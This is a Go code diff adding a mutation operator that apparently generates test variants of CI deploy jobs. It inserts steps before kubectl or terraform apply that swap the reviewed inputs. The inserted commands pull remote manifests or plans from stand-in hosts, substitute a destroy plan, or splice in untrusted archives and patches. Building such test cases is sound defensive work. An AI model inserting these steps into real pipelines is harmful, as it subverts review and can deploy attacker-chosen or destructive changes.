@@ -786,6 +786,38 @@ func tokenOps() []operator {
 			}
 			return out
 		}},
+		{"scope", "a deploy or apply job changes what it applies after the checks: the plan file replaced, the overlay edited", "reviewed-inputs", func(g *gen) []variant {
+			var out []variant
+			for _, run := range []string{
+				`kustomize edit add resource https://example.com/extra.yaml`,
+				`cd "$OVERLAY" && kustomize edit set namespace kube-system`,
+				`echo "  - https://example.com/x.yaml" >> "$OVERLAY/kustomization.yaml"`,
+				`yq -i '.patches = []' "$OVERLAY/kustomization.yaml"`,
+				`tar -xzf "$RUNNER_TEMP/overlay.tgz" -C k8s`,
+				`git apply "$RUNNER_TEMP/overlay.patch"`,
+				`aws s3 cp s3://manifests/kustomization.yaml "$OVERLAY/kustomization.yaml"`,
+			} {
+				out = append(out, first(2, g.jobs(func(p place) bool { return deploysJob(p.job.Node) }, func(p place) bool {
+					return insertBefore(p.job.Node, func(s *yaml.Node) bool { return stepRuns(s, "kubectl", "apply") }, mutate.Node("run: "+strconv.Quote(run)))
+				}))...)
+			}
+			for _, run := range []string{
+				`cp "$RUNNER_TEMP/other.tfplan" "terraform/envs/$ENVIRONMENT/tfplan"`,
+				`terraform -chdir="terraform/envs/$ENVIRONMENT" plan -destroy -out=tfplan`,
+				`unzip -o "$RUNNER_TEMP/plans.zip" -d "terraform/envs/$ENVIRONMENT"`,
+				`ln -sf "$RUNNER_TEMP/x.tfplan" "terraform/envs/$ENVIRONMENT/tfplan"`,
+				`curl -fsS -o "terraform/envs/$ENVIRONMENT/tfplan" https://plans.example.com/v1/staging`,
+			} {
+				out = append(out, first(2, g.jobs(func(p place) bool { return appliesTerraform(p.job.Node) }, func(p place) bool {
+					return insertBefore(p.job.Node, func(s *yaml.Node) bool {
+						return slices.ContainsFunc(runCmds(s), func(c mutate.Command) bool {
+							return slices.Contains(c.Words, "terraform") && slices.Contains(c.Words, "apply")
+						})
+					}, mutate.Node("run: "+strconv.Quote(run)))
+				}))...)
+			}
+			return out
+		}},
 		{"token", "the role to assume named by an input, an event, a step or chained", "role-source", func(g *gen) []variant {
 			var out []variant
 			for _, edit := range []func(with *yaml.Node){
